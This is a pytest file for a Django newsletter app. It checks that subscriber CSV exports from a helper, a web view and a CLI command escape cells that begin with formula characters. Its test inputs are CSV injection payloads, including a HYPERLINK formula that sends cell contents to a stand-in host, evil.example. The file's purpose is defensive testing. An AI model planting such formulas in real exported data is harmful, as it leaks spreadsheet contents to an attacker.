"""Finding 6: no CSV the product writes lets a spreadsheet run a formula from stored text."""

import csv
import io

import pytest

from partnerpost.audience import workflows
from partnerpost.audience.models import Subscriber

NAMES = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "+1+1", "-2+3", "@SUM(1+1)", "\tTab", "\rReturn"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", NAMES)
def test_safe_cell_neutralizes_formula_starts(value):
    from partnerpost.lib.csvcells import safe_cell

    assert safe_cell(value) == "'" + value


def test_safe_cell_leaves_plain_values():
    from partnerpost.lib.csvcells import safe_cell

    assert [safe_cell(v) for v in ["Ana", "a-b", "", 3, None]] == ["Ana", "a-b", "", 3, None]


def _subscribers():
    for n, name in enumerate(NAMES):
        Subscriber.objects.create(email=f"s{n}@example.org", name=name, organization=name, status="confirmed")


def test_subscriber_export_never_starts_a_cell_with_a_formula(db):
    _subscribers()
    out = io.StringIO()
    assert workflows.export_csv(out) == len(NAMES)
    cells = _cells(out.getvalue())
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][1] == "'" + NAMES[0]


def test_workspace_export_never_starts_a_cell_with_a_formula(client, people):
    _subscribers()
    client.force_login(people.editor)
    response = client.get("/workspace/subscribers/?format=csv")
    assert response.status_code == 200
    cells = _cells(response.content.decode())
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert "'@SUM(1+1)" in cells


def test_cli_export_never_starts_a_cell_with_a_formula(db, tmp_path):
    from django.core.management import call_command

    _subscribers()
    target = tmp_path / "subscribers.csv"
    call_command("subscribers", "export", "-o", str(target))
    cells = _cells(target.read_text(encoding="utf-8"))
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
